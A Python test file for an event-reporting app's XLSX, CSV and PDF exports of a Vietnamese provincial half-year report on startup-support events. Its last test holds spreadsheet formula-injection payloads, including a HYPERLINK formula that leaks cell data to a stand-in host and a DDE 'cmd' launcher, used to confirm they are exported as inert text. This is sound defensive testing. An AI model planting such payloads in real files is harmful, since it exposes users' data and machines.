"""Report files: each is opened with the library a reader would use and its numbers and Vietnamese text read
back (openpyxl, pypdf, csv)."""
import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from eventhub import document
from eventhub.reports import exports
from eventhub.reports.periods import CountRow, EventRow, GroupRow, IndicatorRow, PendingEventRow, PeriodReport

HEADER = document.DocumentHeader(agency="Sở Khoa học và Công nghệ tỉnh Đắk Lắk", number="125/BC-SKHCN",
                                 place="Đắk Lắk", issued_on=date(2026, 7, 5), governing_body="UBND tỉnh Đắk Lắk")


def sample_report(**changes) -> PeriodReport:
    values = dict(
        organisations=("Sở KH&CN Đắk Lắk",), starts_on=date(2026, 1, 1), ends_on=date(2026, 6, 30),
        previous_starts_on=date(2025, 1, 1), previous_ends_on=date(2025, 6, 30),
        generated_at=datetime(2026, 7, 1, 2, 30, tzinfo=UTC),
        indicators=(
            IndicatorRow("events:type=workshop", "Diễn đàn khởi nghiệp", "diễn đàn", 5, 2, 40.0, 1),
            IndicatorRow("trainees", "Số học viên được tập huấn", "người", 1200, 1534, 127.8, 980),
            IndicatorRow("unique_participants", "Số người tham gia (không trùng lặp)", "người", None, 2345, None, 0),
        ),
        events_by_type=(CountRow("Hội thảo, diễn đàn", 2, 1), CountRow("Tập huấn, đào tạo", 3, 2),
                        CountRow("Hội chợ, triển lãm", 0, 1)),
        participants_by_group=(GroupRow("Học sinh, sinh viên", 1500, 1100, 1320),
                               GroupRow("Phụ nữ", 300, 280, 290), GroupRow("Nông dân", 0, 0, 0)),
        events=(
            EventRow(7, "Diễn đàn khởi nghiệp xanh", "Hội thảo, diễn đàn", "Cấp tỉnh", "Sở KH&CN Đắk Lắk",
                     datetime(2026, 3, 10, 1, 0, tzinfo=UTC), "Đắk Lắk", 1234, 987,
                     datetime(2026, 3, 10, 10, 0, tzinfo=UTC)),
            EventRow(9, "Tập huấn lập kế hoạch kinh doanh", "Tập huấn, đào tạo", "Cấp xã/huyện",
                     "UBND huyện Krông Pắc", datetime(2026, 4, 15, 1, 0, tzinfo=UTC), "Đắk Lắk", 566, 393,
                     datetime(2026, 4, 16, 9, 30, tzinfo=UTC)),
        ),
        in_progress_events=(
            PendingEventRow(11, "Hội chợ OCOP Tây Nguyên", "Hội chợ, triển lãm", "Cấp tỉnh", "Sở KH&CN Đắk Lắk",
                            datetime(2026, 6, 24, 1, 0, tzinfo=UTC), datetime(2026, 6, 26, 10, 0, tzinfo=UTC),
                            "Đắk Lắk", 412),),
        planned_events=(
            PendingEventRow(12, "Ngày hội khởi nghiệp cấp xã", "Ngày hội khởi nghiệp", "Cấp xã/huyện",
                            "UBND huyện Krông Pắc", datetime(2026, 6, 28, 1, 0, tzinfo=UTC),
                            datetime(2026, 6, 28, 10, 0, tzinfo=UTC), "Đắk Lắk", 80),),
        snapshot_note="Khác bản chốt số liệu ngày 30/06/2026: Số học viên 1.500 → 1.534.")
    values.update(changes)
    return PeriodReport(**values)


def test_the_date_line_and_the_number_follow_the_administrative_style(app):
    assert HEADER.date_line == "Đắk Lắk, ngày 05 tháng 7 năm 2026"
    assert document.DocumentHeader("A", "1", "Hà Nội", date(2026, 2, 15)).date_line == \
        "Hà Nội, ngày 15 tháng 02 năm 2026"
    assert document.abbreviation("Sở Khoa học và Công nghệ tỉnh Đắk Lắk") == "SKHCN"
    assert document.abbreviation("UBND huyện Krông Pắc") == "UBND"
    assert document.abbreviation("Hội Liên hiệp Phụ nữ tỉnh") == "HLHPN"


def test_period_names(app):
    assert exports.period_name(date(2026, 1, 1), date(2026, 6, 30)) == "6 tháng đầu năm 2026"
    assert exports.period_name(date(2026, 7, 1), date(2026, 12, 31)) == "6 tháng cuối năm 2026"
    assert exports.period_name(date(2026, 1, 1), date(2026, 12, 31)) == "năm 2026"
    assert exports.period_name(date(2026, 3, 1), date(2026, 5, 31)) == "từ ngày 01/03/2026 đến ngày 31/05/2026"


def test_xlsx_has_formatted_sheets_with_the_numbers(app):
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(sample_report(), HEADER)))
    assert workbook.sheetnames == ["Tổng hợp", "Chỉ tiêu", "Sự kiện", "Đối tượng", "Chưa kết thúc",
                                  "Chỉ tiêu nhập tay", "Nhiệm vụ"]
    summary = workbook["Tổng hợp"]
    assert summary["A1"].value == "Cơ quan ban hành" and summary["B1"].value == HEADER.agency
    assert summary["B3"].value == ("Kết quả tổ chức các hoạt động hỗ trợ hệ sinh thái khởi nghiệp đổi mới sáng "
                                   "tạo 6 tháng đầu năm 2026")
    assert summary["B5"].value == "01/01/2026 – 30/06/2026"
    rows = list(summary.iter_rows(min_row=10, values_only=True))
    assert rows[0] == ("Loại sự kiện", "Kỳ này", "Cùng kỳ năm trước")
    assert rows[-1] == ("Tổng số sự kiện", 5, 4)
    assert summary.freeze_panes == "A11"

    indicators = workbook["Chỉ tiêu"]
    assert indicators.freeze_panes == "A2" and indicators["B1"].font.bold
    assert [c.value for c in indicators[3]] == [2, "Số học viên được tập huấn", "người", 1200, 1534, 1.278, 980]
    assert indicators["F3"].number_format == "0.0%" and indicators["E3"].number_format == "#,##0"
    assert indicators["D4"].value is None and indicators["F4"].value is None  # no target, no percentage
    assert indicators.column_dimensions["B"].width == 50

    events = workbook["Sự kiện"]
    assert events["B2"].value == "Diễn đàn khởi nghiệp xanh"
    assert events["F2"].value == datetime(2026, 3, 10, 8, 0) and events["F2"].number_format == "dd/mm/yyyy hh:mm"
    assert events["G3"].value == datetime(2026, 4, 16, 16, 30) and events["G3"].number_format == "dd/mm/yyyy hh:mm"
    assert [events["I4"].value, events["J4"].value] == [1800, 1380] and events["I4"].font.bold
    assert "Hội chợ OCOP Tây Nguyên" not in [c.value for c in events["B"]]  # not held: not in the events counted

    pending = [[c.value for c in row] for row in workbook["Chưa kết thúc"].iter_rows()]
    assert pending[0] == ["STT", "Tên sự kiện", "Tình trạng", "Loại", "Cấp", "Đơn vị tổ chức", "Bắt đầu", "Kết thúc",
                          "Tỉnh, thành", "Lượt đăng ký"]
    assert pending[1] == [1, "Hội chợ OCOP Tây Nguyên", "Đang diễn ra", "Hội chợ, triển lãm", "Cấp tỉnh",
                          "Sở KH&CN Đắk Lắk", datetime(2026, 6, 24, 8, 0), datetime(2026, 6, 26, 17, 0), "Đắk Lắk", 412]
    assert pending[2][:3] == [2, "Ngày hội khởi nghiệp cấp xã", "Chưa tổ chức"] and pending[2][-1] == 80
    assert len(pending) == 3  # no total: registrations of events not held add up to nothing the report counts

    groups = workbook["Đối tượng"]
    assert [c.value for c in groups[2]] == ["Học sinh, sinh viên", 1500, 1100, 1320, pytest.approx(1100 / 1500)]
    assert groups["E4"].value is None  # nobody registered: no rate
    assert [c.value for c in groups[5]][:3] == ["Tổng cộng", 1800, 1380]


def test_csv_is_utf8_with_a_bom_and_reads_back(app):
    data = exports.to_csv(sample_report(), HEADER)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "Báo cáo" and rows[0][1].endswith("6 tháng đầu năm 2026")
    start = rows.index(["Chỉ tiêu"])
    assert rows[start + 1][:3] == ["STT", "Chỉ tiêu", "Đơn vị tính"]
    assert rows[start + 3] == ["2", "Số học viên được tập huấn", "người", "1200", "1534", "127.8", "980"]
    assert rows[start + 4][3] == "" and rows[start + 4][5] == ""
    groups = rows.index(["Người tham gia theo nhóm đối tượng"])
    assert rows[groups + 2] == ["Học sinh, sinh viên", "1500", "1100", "1320", "73.3"]
    events = rows.index(["Danh sách sự kiện đã tổ chức"])
    assert rows[events + 2][1:] == ["Diễn đàn khởi nghiệp xanh", "Hội thảo, diễn đàn", "Cấp tỉnh",
                                    "Sở KH&CN Đắk Lắk", "10/03/2026 08:00", "10/03/2026 17:00", "Đắk Lắk", "1234",
                                    "987"]
    assert rows[events + 4] == []  # two events held, then the next section
    pending = rows.index([str(exports.PENDING_TITLE)])
    assert rows[pending + 1][2] == "Tình trạng"
    assert rows[pending + 2] == ["1", "Hội chợ OCOP Tây Nguyên", "Đang diễn ra", "Hội chợ, triển lãm", "Cấp tỉnh",
                                 "Sở KH&CN Đắk Lắk", "24/06/2026 08:00", "26/06/2026 17:00", "Đắk Lắk", "412"]
    assert rows[pending + 3][1:3] == ["Ngày hội khởi nghiệp cấp xã", "Chưa tổ chức"] and rows[pending + 3][-1] == "80"


def pdf_text(data: bytes) -> str:
    """The text of every page, lines joined with spaces (long names wrap in their cells)."""
    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_has_the_official_header_tables_charts_and_signature(app):
    data = exports.to_pdf(sample_report(), HEADER)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    assert "SỞ KHOA HỌC VÀ CÔNG NGHỆ TỈNH" not in text  # the province is named once, by the governing body
    for expected in ("UBND TỈNH ĐẮK LẮK SỞ KHOA HỌC VÀ CÔNG NGHỆ CỘNG HÒA", "Số: 125/BC-SKHCN",
                     "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                     "Đắk Lắk, ngày 05 tháng 7 năm 2026", "BÁO CÁO", "6 tháng đầu năm 2026",
                     "I. KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU", "Số học viên được tập huấn", "1.534", "127,8%",
                     "1.200", "II. SỰ KIỆN ĐÃ TỔ CHỨC", "Danh sách sự kiện đã tổ chức (2)",
                     "Tập huấn lập kế hoạch kinh doanh", "10/03/2026",
                     "THỦ TRƯỞNG ĐƠN VỊ", "Nơi nhận:", "Khác bản chốt số liệu ngày 30/06/2026"):
        assert expected in text, expected
    # The events not yet held come after those held, apart, with their registrations only.
    held, pending = text.split("IV. SỰ KIỆN TRONG KỲ CHƯA KẾT THÚC")
    assert "Hội chợ OCOP Tây Nguyên" not in held and "Ngày hội khởi nghiệp cấp xã" not in held
    for expected in ("Không tính vào kết quả thực hiện", "Hội chợ OCOP Tây Nguyên", "Đang diễn ra", "24/06/2026",
                     "26/06/2026", "412", "Ngày hội khởi nghiệp cấp xã", "Chưa tổ chức", "28/06/2026"):
        assert expected in pending, expected
    # The charts are drawn into the page as vector graphics with their own text: the legend of each.
    assert "Chỉ tiêu" in text and "Thực hiện" in text and "Cùng kỳ năm trước" in text and "Số người" in text


def test_an_empty_period_still_makes_every_file(app):
    report = sample_report(indicators=(), events=(), events_by_type=(), participants_by_group=(),
                           snapshot_note=None, in_progress_events=(), planned_events=())
    text = pdf_text(exports.to_pdf(report, HEADER))
    assert "Không có sự kiện nào đã tổ chức trong kỳ." in text and "CHƯA KẾT THÚC" not in text
    workbook = load_workbook(io.BytesIO(exports.to_xlsx(report, HEADER)))
    assert [c.value for c in workbook["Sự kiện"][2]][1] == "Tổng cộng"
    assert exports.to_csv(report, HEADER).decode("utf-8-sig").count("\r\n") > 5


def test_text_that_came_from_people_never_becomes_a_formula(app):
    link = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'
    report = sample_report(
        organisations=("+UBND huyện Krông Pắc",),
        indicators=(IndicatorRow("events:tag=clb", "-2 CLB khởi nghiệp", "@SUM(A1)", 2, 1, 50.0, 0),),
        events_by_type=(CountRow("\t=1+1", 1, 0),), participants_by_group=(GroupRow("\r=1+1", 3, 2, 2),),
        events=(EventRow(7, link, "Hội thảo", "Cấp tỉnh", "=cmd|' /C calc'!A0", datetime(2026, 3, 10, 1, 0, tzinfo=UTC),
                         "-Đắk Lắk", 3, 2),),
        snapshot_note="+1")
    header = document.DocumentHeader(agency="@Sở KH&CN", number="-2/BC-SKHCN", place="Đắk Lắk",
                                    issued_on=date(2026, 7, 5))
    data = exports.to_xlsx(report, header)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == 7 and not any("<f>" in xml for xml in sheets)
    workbook = load_workbook(io.BytesIO(data))
    summary, indicators, events, groups, *_pending_manual_tasks = (workbook[name] for name in workbook.sheetnames)
    typed = [summary["B1"], summary["B2"], summary["B4"], summary["B8"], summary["A11"], indicators["B2"],
             indicators["C2"], events["B2"], events["E2"], events["H2"], groups["A2"]]
    assert [c.value for c in typed] == ["@Sở KH&CN", "-2/BC-SKHCN", "+UBND huyện Krông Pắc", "+1", "\t=1+1",
                                        "-2 CLB khởi nghiệp", "@SUM(A1)", link, "=cmd|' /C calc'!A0", "-Đắk Lắk",
                                        "\n=1+1"]  # XML reads a carriage return as a line feed
    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
    assert events["I2"].value == 3 and events["I2"].data_type == "n"  # the figures stay numbers

    rows = list(csv.reader(io.StringIO(exports.to_csv(report, header).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["Cơ quan ban hành", "'@Sở KH&CN"] and rows[2] == ["Đơn vị", "'+UBND huyện Krông Pắc"]
    assert ["1", "'-2 CLB khởi nghiệp", "'@SUM(A1)", "2", "1", "50.0", "0"] in rows
    assert ["'\t=1+1", "1", "0"] in rows and ["'\r=1+1", "3", "2", "2", "66.7"] in rows
    event = rows[rows.index(["Danh sách sự kiện đã tổ chức"]) + 2]
    assert event[1] == "'" + link and event[4] == "'=cmd|' /C calc'!A0" and event[7] == "'-Đắk Lắk"
